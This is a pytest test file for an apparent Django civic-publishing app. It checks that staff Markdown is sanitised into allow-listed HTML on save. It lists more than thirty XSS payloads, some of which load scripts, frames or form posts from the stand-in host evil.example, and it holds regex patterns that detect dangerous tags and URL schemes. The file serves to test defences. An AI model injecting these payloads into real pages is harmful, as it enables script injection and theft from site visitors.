"""Staff Markdown reaches residents only as allow-listed HTML, rendered once on save."""

import re

import pytest

from publishing import markdown as markdown_module
from publishing.markdown import render_markdown

from .conftest import make_grantee

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>alert(1)",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg/onload=alert(1)>",
    '<body onload="alert(1)">',
    '<a href="#" onclick="alert(1)">tap</a>',
    '<p onmouseover="alert(1)">hover</p>',
    "[tap](javascript:alert(1))",
    "[tap](JaVaScRiPt:alert(1))",
    "[tap](&#106;avascript:alert(1))",
    "[tap](&#x6A;&#x61;vascript:alert(1))",
    "[tap](java\tscript:alert(1))",
    '<a href="javascript:alert(1)">tap</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">tap</a>',
    "[tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="DATA:text/html,<script>alert(1)</script>">tap</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="q"></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="vbscript:msgbox(1)">tap</a>',
    "![x](javascript:alert(1))",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
]

DANGER = [
    re.compile(r"<\s*(script|style|iframe|svg|object|embed|form|input|meta|base|img|math)\b", re.I),
    re.compile(r"\son\w+\s*=", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"(href|src)\s*=\s*\"?\s*(javascript|data|vbscript):", re.I),
    re.compile(r"\s(srcdoc|action|http-equiv)\s*=", re.I),
]


def test_there_are_at_least_twenty_vectors():
    assert len(VECTORS) >= 20


@pytest.mark.parametrize("vector", VECTORS)
def test_injection_vector_is_neutralized(vector):
    html = render_markdown(f"Before\n\n{vector}\n\nAfter")
    for pattern in DANGER:
        assert not pattern.search(html), (vector, html)
    # Unclosed tags may swallow what follows; what came before must survive.
    assert "Before" in html


def test_ordinary_markdown_survives():
    html = render_markdown(
        "## Help\n\nCall **3-1-1** or [see the report](https://www.portland.gov/311)."
        "\n\n- one\n- two"
    )
    assert "<h2>Help</h2>" in html
    assert "<strong>3-1-1</strong>" in html
    assert 'href="https://www.portland.gov/311"' in html
    assert 'rel="noopener noreferrer"' in html
    assert "<li>one</li>" in html


def test_markdown_fields_show_the_syntax_in_their_help_text():
    from programs.models import Program

    help_text = Program._meta.get_field("body").help_text
    assert "**bold**" in help_text
    assert "[link text](https://" in help_text


@pytest.mark.django_db
def test_markdown_is_rendered_on_save_not_on_page_view(client, monkeypatch):
    grantee = make_grantee(slug="md-group", description="A <script>x</script> **bold** group")
    assert "<strong>bold</strong>" in grantee.description_html
    assert "<script" not in grantee.description_html

    def refuse(*args, **kwargs):
        raise AssertionError("Markdown was parsed during a page view")

    monkeypatch.setattr(markdown_module.markdown, "markdown", refuse)
    response = client.get("/grantees/md-group/")
    assert response.status_code == 200
    assert b"<strong>bold</strong>" in response.content
